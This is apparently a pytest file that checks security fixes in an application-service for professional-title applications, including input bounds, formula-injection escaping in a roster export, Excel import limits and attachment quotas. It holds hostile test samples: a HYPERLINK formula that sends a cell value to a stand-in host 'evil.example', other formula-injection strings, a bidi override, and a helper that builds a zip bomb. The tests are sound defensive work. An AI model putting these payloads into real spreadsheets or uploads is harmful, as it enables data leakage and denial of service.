"""Issue 12, application-service without a server: bounded, clean request texts (findings 2 and 6), the
花名册 export (finding 18), the bounded Excel import (finding 25), POL-PA-4's gate for a check the applicant
spoilt (finding 6) and the attachment quota (finding 26)."""

from __future__ import annotations

import io
import time
import zipfile
from typing import Any

import pytest
from application_service.adapters import spreadsheets
from application_service.api.schemas import ApplicationIn, AttestationIn, DecisionIn, WithdrawIn
from application_service.domain.attachments import MAX_ATTACHMENT_BYTES, MAX_ATTACHMENTS, check_attachment
from application_service.domain.paper_bounds import (
    MAX_AUTHOR_CHARS,
    MAX_AUTHORS,
    MAX_PAPER_TEXT_CHARS,
    MAX_PAPER_TITLE_CHARS,
    applicant_caused,
)
from application_service.domain.policy.papers import plagiarism_gate
from openpyxl import Workbook, load_workbook
from pydantic import ValidationError
from zhicheng_kernel.errors import Conflict, Forbidden, InvalidInput

from tests.application.conftest import application, paper


def _refused(body: dict[str, Any]) -> list[Any]:
    with pytest.raises(ValidationError) as refused:
        ApplicationIn.model_validate(body)
    return [e["loc"] for e in refused.value.errors()]


def test_finding_2_an_author_of_two_megabytes_is_refused_before_it_travels_in_an_event() -> None:
    """Finding 2: paper texts travel inside events and strings have no length caps — an `authors` item
    of 2 MB is accepted; every text of a paper is bounded at the edge, the full text by one bound."""
    assert _refused(application(papers=[paper(authors=["张" * 2_000_000])]))[0][:4] == ("papers", 0, "authors", 0)
    assert _refused(application(papers=[paper(authors=["张三"] * (MAX_AUTHORS + 1))]))
    assert _refused(application(papers=[paper(title="题" * (MAX_PAPER_TITLE_CHARS + 1))]))
    assert _refused(application(papers=[paper(text="文" * (MAX_PAPER_TEXT_CHARS + 1))]))
    assert _refused(application(papers=[paper(journal="刊" * 201)]))
    ApplicationIn.model_validate(application(papers=[paper(text="文" * MAX_PAPER_TEXT_CHARS)]))


def test_finding_6_author_names_and_titles_are_what_plagiarism_service_accepts() -> None:
    """Finding 6: a control character or a 101-character author name makes the plagiarism check
    "rejected" — application-service refuses them first, with the bounds plagiarism-service checks."""
    assert MAX_AUTHOR_CHARS == 100
    assert _refused(application(papers=[paper(authors=["张" * (MAX_AUTHOR_CHARS + 1)])]))
    assert _refused(application(papers=[paper(authors=["张\x01三"])]))
    assert _refused(application(papers=[paper(authors=["张\u202e三"])]))  # a bidi override
    assert _refused(application(papers=[paper(title="研究\x00")]))
    assert _refused(application(papers=[paper(text="\x07" + "正文" * 100)]))
    assert _refused(application(papers=[paper(text="。，、！" * 50)]))  # nothing the matcher can compare
    accepted = ApplicationIn.model_validate(application(papers=[paper(authors=["  张" * 1 + "三  ", "李" * 100])]))
    assert accepted.papers[0].authors == ["张三", "李" * 100]
    ApplicationIn.model_validate(application(papers=[paper(text="第一段\n\t第二段" * 10)]))


def test_finding_2_every_person_typed_text_of_a_request_is_clean_and_bounded() -> None:
    """Finding 2 (inputs): every person-typed text in application-service's requests is CleanText or
    MultilineText with a bound — specialty, reasons, opinions, corrections."""
    assert _refused(application(specialty="临床\x00医学"))
    assert _refused(application(series="卫生\u200b系列"))
    with pytest.raises(ValidationError):
        WithdrawIn.model_validate({"reason": "不想\x1b申报"})
    with pytest.raises(ValidationError):
        DecisionIn.model_validate({"decision": "return", "opinion": "退回\u202e", "expected_version": 1})
    correction = {"path": "work.rural_months", "attested": "十二\x00", "reason": "核实"}
    with pytest.raises(ValidationError):
        AttestationIn.model_validate({"corrections": [correction]})
    assert DecisionIn.model_validate({"decision": "return", "opinion": "材料不全，\n请补充。", "expected_version": 1})


# -- finding 18: the 花名册 export ---------------------------------------------------------------------------


def test_finding_18_roster_cells_are_never_formulas_and_control_characters_do_not_fail_the_export() -> None:
    """Finding 18: the 花名册 export allows formula injection and returns 500 on a control character."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    content = spreadsheets.write_xlsx("花名册", ["姓名", "单位"], [[name, "学校\x01\x1f一"] for name in hostile])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in cells for c in row)
    assert [row[0].value for row in cells] == ["'" + name.lstrip("\t\r") for name in hostile]
    assert all(row[1].value == "学校一" for row in cells)
    csv_text = spreadsheets.write_csv(["姓名"], [[h] for h in hostile]).decode("utf-8-sig")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in csv_text.splitlines()[1:])


# -- finding 25: bounded Excel imports ----------------------------------------------------------------------


def _xlsx(rows: list[list[Any]], sheets: int = 1) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for n in range(sheets - 1):
        book.create_sheet(f"s{n}")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _inflated(entry: str, size: int) -> bytes:
    """A valid .xlsx whose `entry` is replaced by `size` bytes of one repeated character (a zip bomb)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx([["a"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            if info.filename == entry:
                with bomb.open(entry, "w", force_zip64=True) as member:
                    chunk = b" " * (1 << 20)
                    for _ in range(size // len(chunk)):
                        member.write(chunk)
            else:
                bomb.writestr(info, source.read(info.filename))
    return out.getvalue()


def _refused_file(content: bytes) -> InvalidInput:
    with pytest.raises(InvalidInput) as refused:
        spreadsheets.read_rows(content, "list.xlsx")
    return refused.value


def test_finding_25_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    """Finding 25: Excel imports have no decompression limits — a small file that inflates to gigabytes
    is refused from its zip directory (total size and ratio), before any sheet is parsed."""
    bomb = _inflated("xl/worksheets/sheet1.xml", spreadsheets.MAX_UNCOMPRESSED_BYTES + (1 << 20))
    assert len(bomb) < 1_000_000
    started = time.monotonic()
    refused = _refused_file(bomb)
    assert refused.code == "file_too_large_uncompressed" and refused.field == "file"
    assert time.monotonic() - started < 5  # read from the directory, not by inflating it


def test_finding_25_sheets_columns_and_cells_are_bounded() -> None:
    """Finding 25: Excel imports have no column limits — sheets, rows, columns and cell length are bounded."""
    assert _refused_file(_xlsx([["x"] * (spreadsheets.MAX_COLUMNS + 1)])).code == "file_too_many_columns"
    assert _refused_file(_xlsx([["长" * (spreadsheets.MAX_CELL_CHARS + 1)]])).code == "file_cell_too_long"
    assert _refused_file(_xlsx([["a"]], sheets=spreadsheets.MAX_SHEETS + 1)).code == "file_too_many_sheets"
    wide_csv = (",".join(["x"] * (spreadsheets.MAX_COLUMNS + 1)) + "\n").encode()
    with pytest.raises(InvalidInput) as refused:
        spreadsheets.read_rows(wide_csv, "list.csv")
    assert refused.value.code == "file_too_many_columns"
    assert spreadsheets.read_rows(_xlsx([["姓名", "单位"], ["张三", "学校"]])) == [["姓名", "单位"], ["张三", "学校"]]


# -- finding 6 and finding 26 in the domain ------------------------------------------------------------------


def test_finding_6_pol_pa_4_a_check_the_applicant_spoilt_goes_back_to_the_applicant() -> None:
    """Finding 6: a control character or a 101-character author name makes the plagiarism check
    "rejected", after which the employer may upload any ratio — the title office's gate sends such a
    paper back to the applicant; only a check unavailable for another reason waits for the employer."""
    assert applicant_caused("invalid_characters", None) and applicant_caused("too_long", None)
    assert not applicant_caused("not_in_corpus", None) and not applicant_caused("invalid_characters", False)
    assert applicant_caused("anything", True)
    spoilt = {"p1": {"decision": "rejected", "code": "too_long", "applicant_caused": True, "reason": "作者姓名过长"}}
    with pytest.raises(InvalidInput) as refused:
        plagiarism_gate(["p1"], spoilt)
    assert refused.value.code == "plagiarism_check_refused_for_applicant_input" and refused.value.rule == "POL-PA-4"
    unavailable = {"p1": {"decision": "rejected", "code": "not_in_corpus", "applicant_caused": False}}
    with pytest.raises(InvalidInput) as waiting:
        plagiarism_gate(["p1"], unavailable)
    assert waiting.value.code == "plagiarism_check_rejected"


def _attach(attachments: list[dict[str, Any]], size: int, **overrides: Any) -> None:
    facts: dict[str, Any] = {
        "status": "submitted",
        "applicant_id": "a1",
        "current_step": {"step": "unit", "org_id": "school"},
        "step_role": "unit_review",
        "uploader_id": "a1",
        "uploader_org_id": "school",
        "uploader_roles": frozenset({"applicant"}),
        "attachments": attachments,
        "size": size,
    }
    check_attachment(**(facts | overrides))


def test_finding_26_the_quota_counts_files_and_bytes_and_the_status_closes_uploads() -> None:
    """Finding 26: attachment uploads are open to roles and statuses that should not add them, without a
    quota — per application at most MAX_ATTACHMENTS files and MAX_ATTACHMENT_BYTES in all."""
    half = [{"size": MAX_ATTACHMENT_BYTES // 2}]
    _attach(half, MAX_ATTACHMENT_BYTES // 2)
    with pytest.raises(Conflict) as over:
        _attach(half, MAX_ATTACHMENT_BYTES // 2 + 1)
    assert over.value.code == "attachment_quota_exceeded"
    with pytest.raises(Conflict):
        _attach([{"size": 1}] * MAX_ATTACHMENTS, 1)
    for status in ("unit_approved", "office_approved", "pushed", "withdrawn", "titled"):
        with pytest.raises(Conflict) as closed:
            _attach([], 1, status=status, current_step=None)
        assert closed.value.code == "attachment_closed"
    _attach([], 1, uploader_id="r1", uploader_roles=frozenset({"unit_review"}))  # the current step's reviewer
    with pytest.raises(Forbidden):
        _attach([], 1, uploader_id="r1", uploader_org_id="dept", uploader_roles=frozenset({"unit_review"}))
    with pytest.raises(Forbidden):
        _attach([], 1, uploader_id="r1", uploader_roles=frozenset({"auditor", "applicant_management"}))
